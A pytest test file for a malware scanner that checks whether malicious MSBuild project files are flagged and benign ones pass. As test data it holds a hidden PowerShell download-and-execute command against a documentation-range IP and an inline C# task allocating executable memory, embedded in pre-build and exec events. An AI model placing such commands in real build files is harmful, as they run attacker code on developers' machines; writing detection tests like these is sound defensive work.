from __future__ import annotations

import pytest
from hypothesis import given

from app.engine.model import Verdict
from app.engine.rules import RuleSet
from app.engine.scan import Engine
from app.sandbox import samples
from tests.fuzz import fuzzed
from tests.unit.engine.containers import BENIGN, damaged, judged, places

HOSTILE = "var m = Virtual" + "Alloc(0, 4096, 0x3000, 0x40);"


def project(body: str, *, prologue: bool = True) -> bytes:
    head = '<?xml version="1.0" encoding="utf-8"?>\n' if prologue else ""
    return f'{head}<Project ToolsVersion="4.0">\n{body}\n</Project>\n'.encode()


def inline(code: str) -> str:
    return (
        '<UsingTask TaskName="T" TaskFactory="CodeTaskFactory" AssemblyFile="a.dll"><Task>'
        f'<Code Type="Class" Language="cs"><![CDATA[{code}]]></Code></Task></UsingTask>'
    )


FETCH = "powershell -w hidden -nop IEX (New-Object Net.WebClient).Download" + "String('http://198.51.100.7/a')"
ORDINARY = "copy &quot;$(TargetPath)&quot; &quot;$(SolutionDir)out\\&quot;"


@pytest.mark.parametrize("name", ["a.csproj", "a.xml", "a.targets", "build.proj"])
@pytest.mark.parametrize("prologue", [True, False])
def test_a_build_file_whose_code_runs_memory_is_malicious(engine: Engine, name: str, prologue: bool) -> None:
    report = engine.scan(project(inline(HOSTILE), prologue=prologue), name=name)

    assert (report.verdict, places(report)["script.build_code"]) == (Verdict.MALICIOUS, name)


def test_a_build_file_with_code_of_its_own_is_told(engine: Engine) -> None:
    report = engine.scan(project(inline('Log.LogMessage("built");')), name="a.csproj")

    assert (report.verdict, set(places(report))) == (Verdict.CLEAN, {"script.build_code"})


@pytest.mark.parametrize(
    "body",
    [
        f"<PropertyGroup><PreBuildEvent>{FETCH}</PreBuildEvent></PropertyGroup>",
        f'<Target Name="a"><Exec IgnoreExitCode="true" Command="{FETCH}"/></Target>',
        f"<PreLinkEvent><Command>{FETCH}</Command></PreLinkEvent>",
    ],
)
def test_a_build_file_that_fetches_and_runs_is_bad(engine: Engine, body: str) -> None:
    report = engine.scan(project(body), name="a.vcxproj")

    assert report.verdict in (Verdict.MALICIOUS, Verdict.SUSPICIOUS)
    assert any(where.endswith("/commands.psm1") for where in places(report).values())


@pytest.mark.parametrize(
    "body",
    [
        "",
        f"<PropertyGroup><PostBuildEvent>{ORDINARY}</PostBuildEvent></PropertyGroup>",
        f'<Target Name="a"><Exec Command="{ORDINARY}"/><Exec Command="dotnet test --no-build"/></Target>',
        '<ItemGroup><PackageReference Include="Serilog" Version="3.0.0"/></ItemGroup>',
    ],
)
def test_an_ordinary_build_file_is_clean(engine: Engine, body: str) -> None:
    report = engine.scan(project(body), name="a.csproj")

    assert (report.verdict, report.findings) == (Verdict.CLEAN, ())


def test_code_of_a_build_in_a_whole_repository_is_nothing_to_tell(engine: Engine) -> None:
    files = {f"src/{number}.cs": BENIGN for number in range(30)}
    report = engine.scan(samples.zip_of({**files, "a.csproj": project(inline("return true;"))}), name="a.zip")

    assert (report.verdict, report.findings) == (Verdict.CLEAN, ())


@pytest.mark.parametrize(
    "piece", ["<Code>", "<Exec ", "<Exec Command='", "<Command>", "<PreBuildEvent> ", "TaskFactory="]
)
def test_a_megabyte_of_anything_is_read_within_the_limits(engine: Engine, piece: str) -> None:
    report = engine.scan(project(inline("x") + piece * (1_000_000 // len(piece))), name="a.csproj")

    assert "limit.seconds" not in {finding.id for finding in report.findings}


@fuzzed()
@given(damaged(project(inline(HOSTILE) + f"<PreBuildEvent>{FETCH}</PreBuildEvent>")))
def test_wrong_bytes_do_no_harm(rules: RuleSet, content: bytes) -> None:
    assert judged(rules, content, "a.csproj").nodes >= 1
